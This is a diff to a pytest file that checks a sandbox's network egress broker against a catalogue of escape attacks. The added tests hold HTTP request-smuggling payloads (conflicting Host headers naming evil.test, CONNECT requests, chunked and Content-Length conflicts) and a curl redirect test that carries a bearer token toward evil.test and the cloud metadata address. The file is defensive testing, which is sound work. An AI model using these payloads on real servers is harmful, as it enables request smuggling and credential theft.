@@ -2,9 +2,10 @@
 
 The numbers are those of a catalogue of attacks on sandboxes' networks: direct (1), by questions (2), by spellings (3, 5, 7, 10),
 by bytes that parsers read differently (4, 11, 12), without a list (6), to places near the host (8), by what names lead to (9),
-to neighbours (17) and from outside (18). Many connections (15) are in test_egress_storms.py, budgets (14) in
+by redirects with a credential (13), to neighbours (17) and from outside (18). Many connections (15) are in test_egress_storms.py, budgets (14) in
 test_egress_terms.py, the broker's own walls (16) in test_egress.py.
 """
+import json
 import subprocess
 
 import pytest
@@ -108,8 +109,7 @@ print([n for n in names if tcp("api.example.com", 443, hello(n))],
     nothing_leaves(inside, code, stdout="[] False False False False\n")
 
 
-def test_4_12_no_request_hides_another_one(inside):
-    code = TRY + """
+REQUESTS = TRY + """
 host = b"Host: api.example.com\\r\\n"
 requests = [b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n\\r\\n", b"GET / HTTP/1.1\\r\\n" + host + b"Host: evil.test\\r\\n\\r\\n",
             b"GET http://evil.test/ HTTP/1.1\\r\\n" + host + b"\\r\\n", b"GET / HTTP/1.1\\n" + host + b"\\n", b"GET / HTTP/1.1\\r\\nHost : api.example.com\\r\\n\\r\\n",
@@ -122,9 +122,24 @@ def answered(data):
     try:
         s = socket.create_connection(("api.example.com", 80), timeout=3); s.sendall(data); return s.recv(12)[:12] not in (b"", b"HTTP/1.1 400")
     except OSError: return False
-print([r[:40] for r in requests if answered(r)])
+print([i for i, r in enumerate(requests) if answered(r)])
 """
-    nothing_leaves(inside, code, stdout="[]\n")
+
+
+def test_4_12_no_request_hides_another_one(inside):
+    nothing_leaves(inside, REQUESTS, stdout="[]\n")
+
+
+def test_12_every_such_request_arrives_where_nobody_looks(inside):
+    """Without the protection: what a rule doesn't inspect is relayed, and each of them reaches the server."""
+    inside.internet.seen()
+    done = inside.python(REQUESTS, policy=inside.reach({**https("api.example.com", [80]), "inspect": "none"}))
+    heads = [f["head"] for f in inside.internet.seen() if f["kind"] == "request"]
+    assert done["exit_code"] == 0
+    for hidden in ("Host: evil.test", "GET http://evil.test/", "CONNECT evil.test:443", "PRI * HTTP/2.0", "Host : api", "\r\n folded: x", "\0.evil.test",
+                   "Transfer-Encoding: chunked", "Content-Length: 6", "x" * 100000, "api.example.com:81"):
+        assert any(hidden in head for head in heads), hidden
+    assert [i for i in range(14) if i not in json.loads(done["stdout"])] == [4]  # lines that end with LF alone this server doesn't know
 
 
 def test_6_no_list_an_empty_one_and_a_broken_one_deny_all(inside):
@@ -144,6 +159,35 @@ def test_8_9_no_name_and_no_address_leads_near_the_host(inside):
     places = [f"{name}.example.com" for name in near] + ["169.254.169.254", "127.0.0.1", "::1", "10.66.0.1", "100.64.0.1", "0.0.0.0", "::",
                                                          "192.0.2.1", "2001:db8::1", "fe80::1", "224.0.0.1", "198.18.0.1", "fd70:696e:666f:6c64::1"]
     nothing_leaves(inside, code, *places, rules=(https("*.example.com", [80, 7002, 53]),), stdout="[]\n")
+
+
+FOLLOW = """
+import subprocess, sys
+for place in sys.argv[1:]:
+    done = subprocess.run(["curl", "-s", "-g", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "-L", "--location-trusted",
+                           "-H", "Authorization: Bearer s3cret-token", "http://api.example.com/to/" + place], capture_output=True, text=True)
+    print(place, done.stdout, done.returncode != 0)
+"""
+
+
+def test_13_no_redirect_takes_a_credential_to_another_place(inside):
+    places = ["http://evil.test/", "http://www.example.com/", "http://api.example.com:7002/", f"http://{SECOND}/", f"http://[{SIX}]/",
+              f"http://{PUBLIC}/", "http://169.254.169.254/latest/meta-data/", "http://10.66.0.1/", "http://api.example.com.evil.test/",
+              "http://user@www.example.com/", "https://a.files.example.org/"]
+    inside.internet.seen()
+    done = inside.python(FOLLOW, *places, policy=inside.reach(https("api.example.com", [80])))
+    seen = inside.internet.seen()
+    lines = done["stdout"].splitlines()
+    assert len(lines) == len(places) and all(line.endswith(" True") for line in lines), done
+    heads = [f["head"] for f in seen if f["kind"] == "request"]
+    assert len(heads) == len(places) and all("\r\nHost: api.example.com\r\n" in head and " /to/" in head for head in heads)
+    assert all("s3cret-token" in head for head in heads)
+    assert inside.internet.bytes_to(seen) == inside.internet.bytes_to(seen, (PUBLIC, 80)) > 0
+    assert {f["name"] for f in seen if f["kind"] == "question"} <= {"api.example.com"}
+    # without the wall the redirect takes it along
+    inside.python(FOLLOW, "http://www.example.com/", policy=inside.reach(https("*.example.com", [80])))
+    heads = [f["head"] for f in inside.internet.seen() if f["kind"] == "request"]
+    assert any("\r\nHost: www.example.com\r\n" in head and "s3cret-token" in head for head in heads)
 
 
 def test_17_the_broker_listens_to_nobody_outside_its_sandbox(inside):
